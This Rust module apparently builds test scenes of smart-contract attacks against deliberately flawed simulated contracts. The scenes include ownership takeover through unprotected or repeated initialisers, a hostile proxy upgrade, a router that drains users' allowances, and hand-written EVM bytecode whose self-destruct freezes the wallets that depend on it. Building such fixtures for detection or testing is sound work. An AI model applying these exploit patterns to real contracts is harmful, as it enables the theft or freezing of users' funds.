//! Attacks on what has one owner, on routers with allowances, and on code that others run.

use alloy_primitives::{Address, Bytes, U256, hex};
use alloy_sol_types::{SolCall, SolConstructor};

use super::amount::{part, whole};
use super::contracts::{ModuleProxy, ZooFlawedToken, ZooHostileCode, ZooReserve, ZooRouter, ZooTreasury};
use super::entry::Scene;
use super::plan::{Act, Plan, Step};
use super::stage::{Probe, Send, Stage};
use super::town::{DAY, DAYS, Town, live};

/// A reserve behind a proxy.
pub(super) struct Kept {
    pub(super) token: Address,
    pub(super) reserve: Address,
    pub(super) owner: Address,
    pub(super) traffic: Vec<Send>,
}

impl Kept {
    /// 50,000 tokens, owned by citizen 0 if it is `initialised` at all, and a payment a day.
    pub(super) fn new(stage: &mut Stage, initialised: bool) -> Self {
        let town = Town::new(stage);
        let token = town.token(stage, "ASSET");
        let owner = town.citizen(0);
        let implementation = stage.deploy(town.deployer, &ZooReserve::BYTECODE, Vec::new());
        let data = if initialised {
            ZooReserve::initialiseCall { owner_: owner }.abi_encode()
        } else {
            // The proxy insists on some call; this one sets nothing.
            ZooReserve::ownerCall {}.abi_encode()
        };
        let arguments = ModuleProxy::constructorCall { implementation, data: data.into() };
        let reserve = stage.deploy(town.deployer, &ModuleProxy::BYTECODE, arguments.abi_encode());
        let fund = ZooFlawedToken::transferCall { to: reserve, amount: whole(50_000) };
        stage.call(town.deployer, token, &fund);
        let more = ZooFlawedToken::transferCall { to: reserve, amount: whole(120) };
        let mut traffic = vec![Send::call(town.citizen(3), token, &more)];
        if initialised {
            let pay = ZooReserve::payCall { token, to: town.citizen(4), amount: whole(100) };
            traffic.push(Send::call(owner, reserve, &pay));
        }
        Self { token, reserve, owner, traffic }
    }

    fn losses(&self) -> Vec<Probe> {
        vec![Probe::token(self.reserve, self.token)]
    }

    fn pay(&self, to: Address) -> Act {
        Act::new(self.reserve, &ZooReserve::payCall { token: self.token, to, amount: whole(45_000) })
    }
}

/// Anybody may set the owner again.
pub(super) fn repeated_initialiser(stage: &mut Stage) -> Scene {
    taken_over(stage, true, |role_me| ZooReserve::initialiseCall { owner_: role_me }.abi_encode())
}

/// Nobody has set the owner yet.
pub(super) fn unprotected_initialiser(stage: &mut Stage) -> Scene {
    taken_over(stage, false, |role_me| ZooReserve::initialiseCall { owner_: role_me }.abi_encode())
}

/// A function that makes its caller the owner.
pub(super) fn claimed_owner(stage: &mut Stage) -> Scene {
    taken_over(stage, true, |_| ZooReserve::claimOwnerCall {}.abi_encode())
}

fn taken_over(stage: &mut Stage, initialised: bool, take: fn(Address) -> Vec<u8>) -> Scene {
    let kept = Kept::new(stage, initialised);
    live(stage, &kept.traffic);
    let (modules, losses, traffic) = (vec![kept.reserve], kept.losses(), kept.traffic.clone());
    Scene::new(&modules, move |role| {
        let acts = vec![Act::raw(kept.reserve, take(role.me).into()), kept.pay(role.thief)];
        vec![Step::Contract(Plan::new(acts))]
    })
    .losing(losses)
    .among(&traffic)
}

/// A function that pays everything to anybody.
pub(super) fn open_sweep(stage: &mut Stage) -> Scene {
    let kept = Kept::new(stage, true);
    live(stage, &kept.traffic);
    let (modules, losses, traffic) = (vec![kept.reserve], kept.losses(), kept.traffic.clone());
    Scene::new(&modules, move |role| {
        vec![Step::by(role.thief, kept.reserve, &ZooReserve::sweepCall { token: kept.token, to: role.thief })]
    })
    .losing(losses)
    .among(&traffic)
}

/// The owner's key is stolen: the reserve runs other code, and that code pays everything out.
pub(super) fn hostile_upgrade(stage: &mut Stage) -> Scene {
    let kept = Kept::new(stage, true);
    live(stage, &kept.traffic);
    let accomplice = stage.actor("accomplice");
    let hostile = stage.next_creation(accomplice);
    let (modules, losses, traffic) = (vec![kept.reserve], kept.losses(), kept.traffic.clone());
    Scene::new(&modules, move |role| {
        let sweep = ZooHostileCode::sweepTokenCall { token: kept.token, to: role.thief };
        vec![
            Step::Account(Send::create(accomplice, ZooHostileCode::BYTECODE.clone())),
            Step::by(kept.owner, kept.reserve, &ZooReserve::upgradeCall { implementation: hostile }),
            Step::by(role.thief, kept.reserve, &sweep),
        ]
    })
    .losing(losses)
    .among(&traffic)
}

/// The owner's key is stolen: ownership goes to a fresh account, which pays itself.
pub(super) fn owner_to_stranger(stage: &mut Stage) -> Scene {
    let town = Town::new(stage);
    let token = town.token(stage, "ASSET");
    let owner = town.citizen(0);
    let arguments = ZooTreasury::constructorCall { owner_: owner };
    let treasury = stage.deploy(town.deployer, &ZooTreasury::BYTECODE, arguments.abi_encode());
    let fund = ZooFlawedToken::transferCall { to: treasury, amount: whole(50_000) };
    stage.call(town.deployer, token, &fund);
    let pay = ZooTreasury::payCall { token, to: town.citizen(4), amount: whole(100) };
    let traffic = [Send::call(owner, treasury, &pay)];
    live(stage, &traffic);
    Scene::new(&[treasury], move |role| {
        let transfer = ZooTreasury::transferOwnershipCall { newOwner: role.thief };
        let everything = ZooTreasury::payCall { token, to: role.thief, amount: whole(45_000) };
        vec![Step::by(owner, treasury, &transfer), Step::by(role.thief, treasury, &everything)]
    })
    .losing(vec![Probe::token(treasury, token)])
    .among(&traffic)
}

/// A router that citizens have given allowances to, and pay with every day.
struct Trusted {
    town: Town,
    token: Address,
    router: Address,
    traffic: Vec<Send>,
}

impl Trusted {
    fn lived(stage: &mut Stage) -> Self {
        let town = Town::new(stage);
        let token = town.token(stage, "ASSET");
        let router = stage.deploy(town.deployer, &ZooRouter::BYTECODE, Vec::new());
        town.approve(stage, token, router);
        let by = |citizen: usize, to: usize| {
            let pay = ZooRouter::payCall { token, to: town.citizen(to), amount: whole(30) };
            Send::call(town.citizen(citizen), router, &pay)
        };
        let traffic = vec![by(0, 1), by(1, 2), by(2, 0)];
        live(stage, &traffic);
        Self { town, token, router, traffic }
    }

    fn victims(&self) -> Vec<Address> {
        (3..8).map(|index| self.town.citizen(index)).collect()
    }

    fn scene(self, take: impl Fn(&Self, Address, Address, U256) -> Act + 'static) -> Scene {
        let losses = self.victims().into_iter().map(|victim| Probe::token(victim, self.token)).collect();
        let (modules, traffic) = (vec![self.router], self.traffic.clone());
        Scene::new(&modules, move |role| {
            let amount = part(whole(200_000), role.pieces);
            let acts = self.victims().into_iter().map(|victim| take(&self, victim, role.thief, amount));
            vec![Step::Contract(Plan::new(acts.collect()))]
        })
        .losing(losses)
        .among(&traffic)
        .divisible()
    }
}

/// The router calls the token as a stranger wants, with the allowances of its users.
pub(super) fn router_any_call(stage: &mut Stage) -> Scene {
    Trusted::lived(stage).scene(|trusted, victim, thief, amount| {
        let take = ZooFlawedToken::transferFromCall { from: victim, to: thief, amount };
        let (token, data) = (trusted.token, take.abi_encode().into());
        Act::new(trusted.router, &ZooRouter::routeCall { token, amount: U256::ZERO, venue: token, data })
    })
}

/// The router takes from whomever its caller names.
pub(super) fn router_pays_from(stage: &mut Stage) -> Scene {
    Trusted::lived(stage).scene(|trusted, victim, thief, amount| {
        let take = ZooRouter::payFromCall { token: trusted.token, from: victim, to: thief, amount };
        Act::new(trusted.router, &take)
    })
}

/// What the wallets run, by the first byte of the calldata: 1 makes the caller the owner, 2 pays him one ether of the
/// wallet, 3 destroys the code. Put together by hand, because compilers refuse to by now.
fn library() -> Bytes {
    const OWN: [u8; 5] = hex!("5b335f5500");
    const PAY: [u8; 18] = hex!("5b5f5f5f5f670de0b6b3a7640000335af100");
    const KILL: [u8; 3] = hex!("5b33ff");
    /// Bytes before the first of these: the choice between them.
    const CHOICE: usize = 32;
    let own = CHOICE;
    let pay = own.saturating_add(OWN.len());
    let kill = pay.saturating_add(PAY.len());
    let accept = kill.saturating_add(KILL.len());
    let place = |at: usize| u8::try_from(at).expect("the library is shorter than 256 bytes");
    let mut code = vec![0x36, 0x15, 0x60, place(accept), 0x57, 0x5f, 0x35, 0x60, 0xf8, 0x1c];
    for (choice, at) in [(1, own), (2, pay), (3, kill)] {
        code.extend([0x80, 0x60, choice, 0x14, 0x60, place(at), 0x57]);
    }
    code.resize(CHOICE, 0x00);
    code.extend(OWN);
    code.extend(PAY);
    code.extend(KILL);
    code.extend([0x5b, 0x00]);
    code.into()
}

/// A minimal proxy of `library` (EIP-1167).
fn wallet(library: Address) -> Bytes {
    [hex!("363d3d373d3d3d363d73").as_slice(), library.as_slice(), &hex!("5af43d82803e903d91602b57fd5bf3")]
        .concat()
        .into()
}

/// The code that wallets run is owned by nobody: somebody owns it, and destroys it. What they hold is frozen.
pub(super) fn destroyed_library(stage: &mut Stage) -> Scene {
    let town = Town::new(stage);
    let library = stage.place("library", library(), 0);
    let code = wallet(library);
    let wallets: Vec<Address> =
        (0..3).map(|index| stage.place(&format!("wallet {index}"), code.clone(), 2_000)).collect();
    let order =
        |from: Address, to: Address, byte: u8| Send { from, to: Some(to), value: U256::ZERO, data: vec![byte].into() };
    let owned = || wallets.iter().enumerate().map(|(index, wallet)| (town.citizen(index), *wallet));
    owned().for_each(|(owner, wallet)| stage.honest(&order(owner, wallet, 1)));
    stage.begin();
    for _ in 0..DAYS {
        owned().for_each(|(owner, wallet)| stage.honest(&order(owner, wallet, 2)));
        stage.wait(DAY);
    }
    let frozen = wallets.iter().map(|wallet| Probe::ether(*wallet)).collect();
    let gift =
        |wallet: &Address| Send { from: town.citizen(5), to: Some(*wallet), value: whole(1), data: Bytes::new() };
    let traffic: Vec<Send> = wallets.iter().map(gift).collect();
    Scene::new(&wallets, move |role| {
        vec![Step::Account(order(role.thief, library, 1)), Step::Account(order(role.thief, library, 3))]
    })
    .risking(frozen)
    .among(&traffic)
}
